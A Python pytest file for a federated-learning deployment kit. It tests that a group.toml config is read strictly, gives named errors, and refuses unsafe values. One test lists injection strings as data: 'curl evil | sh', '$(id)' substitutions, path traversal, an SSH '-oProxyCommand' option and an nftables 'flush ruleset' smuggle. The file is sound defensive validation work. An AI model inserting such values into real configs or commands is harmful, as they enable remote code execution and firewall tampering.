"""A group is read strictly, and no value of it can be more than a name, a path or an address."""

from __future__ import annotations

from pathlib import Path

import pytest
from site_kit_fixtures import DIGEST, EXPERIMENT, GROUP, write_experiment

from partita.experiment.config import ConfigError
from partita.site.kit.group import load_group
from partita.site.kit.party_files import load_experiment
from partita.site.toml_tables import SiteError


def read(folder: Path, text: str) -> object:
    (folder / "group.toml").write_text(text)
    return load_group(folder / "group.toml")


def test_group_is_read_with_its_defaults(tmp_path: Path) -> None:
    group = read(tmp_path, GROUP)
    north, south = group.site  # type: ignore[attr-defined]
    assert (north.home, south.home) == ("/opt/partita/north", "/home/research/south")
    assert (north.data, north.set) == ("/srv/data/north", {})
    assert (south.data, south.set) == ("/srv/data/south", {"engine.device": "cuda"})
    assert group.open_points() == []  # type: ignore[attr-defined]
    names = group.server.certificate_names  # type: ignore[attr-defined]
    assert names == "DNS:fl.example.org,IP:203.0.113.5,IP:2001:db8::5,DNS:localhost,IP:127.0.0.1"


@pytest.mark.parametrize(
    ("old", "new", "error"),
    [
        ('name = "hospital group"', "", "'name' is missing"),
        ('name = "south"', 'name = "north"', "two sites have the name 'north'; give each a name of its own"),
        ('data = "/srv/data/south"', 'dta = "/srv"', r"unknown key 'site\[2\].dta'; did you mean 'data'\?"),
        ('"fl.example.org:8765"', '"fl.example.org"', "server.address is 'fl.example.org'; write host and port"),
        ('"fl.example.org:8765"', '"fl.example.org:99999"', "server.address is 'fl.example.org:99999'"),
        ('ips = ["203.0.113.5", "2001:db8::5"]', "", "server.ips is missing; list the IP addresses of fl.example.org"),
        ('"203.0.113.5"', '"fl.example.org"', "server.ips is 'fl.example.org'; write an IP address"),
        ('"192.0.2.7"', '"192.0.2.7/8"', r"site\[2\].ips is '192.0.2.7/8'; write an IP address or a network"),
        ('"engine.device"', '"method.name"', "set.method.name cannot differ from the experiment"),
        ('"engine.device" = "cuda"', '"data.path" = "/x"', "is written as data ="),
        (f"partita@sha256:{DIGEST}", "partita:latest", "images.partita is .*; pin it by its digest"),
        ('name = "south"', 'name = "server"', "which is the server's folder"),
    ],
)
def test_mistake_is_named_with_its_remedy(old: str, new: str, error: str, tmp_path: Path) -> None:
    assert old in GROUP
    with pytest.raises(SiteError, match=error):
        read(tmp_path, GROUP.replace(old, new))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"hospital group"', '"a/CN=evil"'),
        ('"hospital group"', "'\"; curl evil | sh; \"'"),
        ('"south"', '"../../etc"'),
        ('"south"', '"South"'),
        ('"south"', '"$(id)"'),
        ('"/srv/data/south"', '"/srv/$(id)"'),
        ('"/srv/data/south"', '"/srv/../etc"'),
        ('"/srv/data/south"', '"/srv/a b"'),
        ('"/srv/data/south"', '"data"'),
        ('"/home/research/south"', '"/home/x%n"'),
        ('"fl.example.org:8765"', '"-oProxyCommand=x:8765"'),
        ('"203.0.113.5"', '"203.0.113.5 } ; flush ruleset"'),
        ("docker.io/library/nginx", "docker.io/library/nginx\\nUSER root"),
        ("registry.example.org/partita", "registry.example.org/$HOME"),
    ],
)
def test_value_that_could_be_a_command_is_refused(old: str, new: str, tmp_path: Path) -> None:
    assert old in GROUP
    with pytest.raises(SiteError):
        read(tmp_path, GROUP.replace(old, new))


@pytest.mark.parametrize(
    ("old", "new", "error"),
    [
        ('sites = ["north", "south"]', 'sites = ["north", "south", "west"]', "has 'west'; add a \\[\\[site\\]\\]"),
        ('sites = ["north", "south"]', 'sites = ["north", "sooth"]', "has 'sooth'; add"),
        ('sites = ["north", "south"]', 'sites = ["north"]', "'south' is not in split.sites of the experiment; did you"),
        (
            'name = "site"\nsites = ["north", "south"]',
            'name = "iid"\nclients = 2',
            "split.name is 'iid'; a group needs",
        ),
    ],
)
def test_sites_must_be_those_of_the_experiment(old: str, new: str, error: str, tmp_path: Path) -> None:
    assert old in EXPERIMENT
    write_experiment(tmp_path, EXPERIMENT.replace(old, new))
    with pytest.raises(SiteError, match=error):
        load_experiment(read(tmp_path, GROUP))  # type: ignore[arg-type]


def test_each_site_needs_data_if_the_experiment_reads_a_path(tmp_path: Path) -> None:
    write_experiment(tmp_path)
    with pytest.raises(SiteError, match="the site 'south' has no data; say where its rows are"):
        load_experiment(read(tmp_path, GROUP.replace('data = "/srv/data/south"', "")))  # type: ignore[arg-type]


def test_missing_experiment_is_named(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"cannot read the config .*experiment.toml"):
        load_experiment(read(tmp_path, GROUP))  # type: ignore[arg-type]


def test_what_is_not_known_yet_stays_closed_and_is_named(tmp_path: Path) -> None:
    text = GROUP.replace('ips = ["192.0.2.7"]', "").replace(f'nginx = "docker.io/library/nginx@sha256:{DIGEST}"', "")
    group = read(tmp_path, text)
    points = group.open_points()  # type: ignore[attr-defined]
    assert [point.split()[0] for point in points] == ["images.nginx", "south"]
    assert group.images.pinned("nginx") == f"unknown.invalid/nginx@sha256:{'0' * 64}"  # type: ignore[attr-defined]
